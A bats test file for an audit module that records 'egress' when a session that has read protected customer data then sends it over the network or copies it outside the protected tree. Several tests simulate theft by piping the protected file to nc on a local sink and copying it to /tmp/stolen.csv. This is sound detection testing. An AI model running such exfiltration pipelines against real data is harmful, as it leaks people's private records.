#!/usr/bin/env bats
# Egress: once a login session has read protected data, what it sends to
# unprotected endpoints and writes outside protected trees is recorded.

load lib

F=/srv/customers/customers.csv	# 100,000 bytes

setup_file() {
	load lib
	fresh_module
	load_policy
	start_bg SINK netpeer sink tcp 127.0.0.1:9000
}

teardown_file() {
	stop_bg SINK
	unload_module
}

setup() {
	echo 900 >/sys/module/daudit/parameters/egress_window_sec
	drain_records /dev/null
}

@test "cat of a protected file piped to nc: a read and an egress in the same login session, bytes equal" {
	# shellcheck disable=SC2016 # the inner shell expands it
	as_user mallory bash -c 'cat "$1" | nc 127.0.0.1 9000' _ "$F"
	sleep 1
	drain_records
	cat "$RECS" >&2
	read_sid=$(records_where '.event.action == "file_read"' | jq -r '.daudit.login_session' | head -n1)
	e=$(records_where '.event.action == "egress"')
	[ -n "$e" ]
	[ "$(echo "$e" | jq -s 'map(.daudit.bytes) | add')" -eq 100000 ]
	[ "$(echo "$e" | jq -r .daudit.login_session | sort -u)" = "$read_sid" ]
	[ "$(echo "$e" | jq -r .daudit.egress.kind | sort -u)" = net ]
	[ "$(echo "$e" | jq -r .destination.port | sort -u)" = 9000 ]
	[ "$(echo "$e" | jq -r .destination.ip | sort -u)" = 127.0.0.1 ]
	[ "$(echo "$e" | jq -r .daudit.egress.loopback | sort -u)" = true ]
	[ "$(echo "$e" | jq -r .daudit.egress.marked_by | sort -u)" = login_session ]
	[ "$(echo "$e" | jq -r .daudit.dataset | sort -u)" = customers ]
	[ "$(echo "$e" | jq -r .process.name | sort -u)" = nc ]
	[ "$(echo "$e" | jq -r .user.audit.id | sort -u)" = 1004 ]
}

# copy_while_sent READER: READER (the reader helper, 64- or 32-bit)
# copies a 128 MiB protected file with one copy_file_range(2) while nc
# sends the copy's first MiB.  The copy counts its read when it returns;
# the session must be marked when it starts, or nc's bytes leave unseen.
# The copy stays on one file system: across two, tmpfs says EXDEV.
copy_while_sent() {
	big=/srv/customers/big.bin part=/srv/public/out/part.bin
	head -c 134217728 /dev/zero >"$big"
	chmod 644 "$big"
	: >"$BATS_FILE_TMPDIR/SINK.out"
	# shellcheck disable=SC2016 # the inner shell expands it
	out=$(as_user mallory bash -c '
		"$3" copy-once "$1" "$2" >/dev/null & c=$!
		until [ -s "$2" ] || ! kill -0 $c 2>/dev/null; do :; done
		head -c 1048576 "$2" | nc 127.0.0.1 9000
		kill -0 $c 2>/dev/null && echo copy-still-running
		wait $c' _ "$big" "$part" "$1")
	rm -f "$big" "$part"
	echo "$out" >&2
	[[ "$out" == *copy-still-running* ]]
	sleep 1
	drain_records
	sent=$(sed -n 's/^received=//p' "$BATS_FILE_TMPDIR/SINK.out" | tail -n1)
	[ "$sent" -gt 0 ]
	e=$(records_where '.event.action == "egress" and .daudit.egress.kind == "net"')
	echo "$e" >&2
	[ "$(echo "$e" | jq -s 'map(.daudit.bytes) | add')" -eq "$sent" ]
	[ "$(echo "$e" | jq -r .process.name | sort -u)" = nc ]
	[ "$(echo "$e" | jq -r .daudit.egress.marked_by | sort -u)" = login_session ]
}

@test "nc sends a copy of a protected file while copy_file_range still writes it: egress from the first byte" {
	copy_while_sent reader
}

@test "the same by a 32-bit (ia32) program" {
	copy_while_sent reader32
}

@test "a trusted reader's copy_file_range marks nothing; the same program untrusted is egress" {
	cp /opt/daudit/helpers/reader /usr/bin/trusted-reader
	printf 'dataset customers {\n\ttree /srv/customers\n\treader /usr/bin/trusted-reader\n}\n' >/tmp/trusted.conf
	daudit policy load /tmp/trusted.conf
	drain_records /dev/null
	out=/srv/public/out/trusted.bin
	as_user mallory trusted-reader copy "$F" "$out" >/dev/null
	drain_records
	cat "$RECS" >&2
	[ -z "$(records_where '.event.action == "egress"')" ]
	[ -z "$(records_where '.event.action == "file_read"')" ]
	cmp "$F" "$out"
	drain_records /dev/null
	# The control: the same calls by the untrusted copy are a read and
	# an egress (a file outside the protected tree).
	as_user mallory reader copy "$F" "$out" >/dev/null
	drain_records
	cat "$RECS" >&2
	[ "$(records_where '.event.action == "file_read"' | jq -s 'map(.daudit.bytes) | add')" -eq 100000 ]
	[ "$(records_where '.event.action == "egress"' | jq -s 'map(.daudit.bytes) | add')" -eq 100000 ]
	[ "$(records_where '.event.action == "egress"' | jq -r .file.path)" = "$out" ]
	load_policy
	rm -f /usr/bin/trusted-reader /tmp/trusted.conf "$out"
}

@test "cp of a protected file to /tmp: a file egress with its path, mount and filesystem" {
	as_user mallory cp "$F" /tmp/stolen.csv
	drain_records
	cat "$RECS" >&2
	e=$(records_where '.event.action == "egress"')
	[ "$(echo "$e" | jq -s 'map(.daudit.bytes) | add')" -eq 100000 ]
	[ "$(echo "$e" | jq -r .daudit.egress.kind | sort -u)" = file ]
	[ "$(echo "$e" | jq -r .file.path | sort -u)" = /tmp/stolen.csv ]
	[ "$(echo "$e" | jq -r .daudit.mount.point | sort -u)" = /tmp ]
	[ "$(echo "$e" | jq -r .daudit.mount.fstype | sort -u)" = tmpfs ]
	rm -f /tmp/stolen.csv
}

@test "a session that never read protected data yields no egress record" {
	as_user bob bash -c 'cat /srv/public/readme.txt | nc 127.0.0.1 9000; cp /srv/public/readme.txt /tmp/x'
	drain_records
	[ "$(jq -s '[.[] | select(.event.action == "egress")] | length' "$RECS")" -eq 0 ]
}

@test "the window expires as configured" {
	# A 2 s window, and 4 s of sleep past it.  On the debug kernel beside
	# other VMs the read, the fork and exec of cat and nc took longer than
	# 2 s once (2026-12-07): there the window is 10 s and the sleep 20 s.
	local window=2
	[ -n "${DAUDIT_DEBUG_KERNEL:-}" ] && window=10
	echo "$window" >/sys/module/daudit/parameters/egress_window_sec
	# shellcheck disable=SC2016 # the inner shell expands it
	as_user carol bash -c 'cat "$1" >/dev/null; sleep "$2"; cat /srv/public/readme.txt | nc 127.0.0.1 9000' _ "$F" $((window * 2))
	drain_records
	[ "$(jq -s '[.[] | select(.event.action == "egress")] | length' "$RECS")" -eq 0 ]
	# Inside the window it is caught.
	# shellcheck disable=SC2016
	as_user carol bash -c 'cat "$1" >/dev/null; cat /srv/public/readme.txt | nc 127.0.0.1 9000' _ "$F"
	drain_records
	[ "$(sum_where '.event.action == "egress"')" -eq 50000 ]
}

@test "pipes, /dev/null and files inside the protected tree are not egress" {
	# shellcheck disable=SC2016
	as_user alice bash -c 'cat "$1" | cat >/dev/null' _ "$F"
	cp "$F" /srv/customers/copy-inside.csv
	drain_records
	cat "$RECS" >&2
	[ "$(jq -s '[.[] | select(.event.action == "egress")] | length' "$RECS")" -eq 0 ]
	rm -f /srv/customers/copy-inside.csv
}
